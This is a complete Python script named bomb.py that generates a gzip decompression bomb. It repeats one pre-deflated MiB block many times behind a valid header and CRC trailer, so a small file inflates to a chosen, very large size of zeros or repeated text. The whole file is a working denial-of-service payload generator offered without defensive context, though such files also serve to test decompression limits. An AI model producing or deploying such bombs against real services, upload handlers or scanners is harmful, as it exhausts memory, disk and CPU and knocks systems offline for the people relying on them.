"""bomb.py TEXT MIB: one gzip member of so many MiB of a text, on stdout.

Each MiB is deflated once and written over and over: a full flush lets go of
what was before. TEXT is zeros, or a file of at most 1 MiB that is repeated and
filled up with line feeds.
"""

import struct
import sys
import zlib

MIB = 1 << 20


def unit_of(name):
    if name == "zeros":
        return bytes(MIB)
    with open(name, "rb") as file:
        text = file.read()
    return (text * (MIB // len(text))).ljust(MIB, b"\n")


def main():
    unit, count = unit_of(sys.argv[1]), int(sys.argv[2])
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    out = sys.stdout.buffer
    out.write(b"\x1f\x8b\x08\0\0\0\0\0\0\3")
    for _ in range(count):
        crc = zlib.crc32(unit, crc)
        out.write(packed)
    out.write(b"\3\0" + struct.pack("<II", crc, count * MIB & 0xFFFFFFFF))


main()
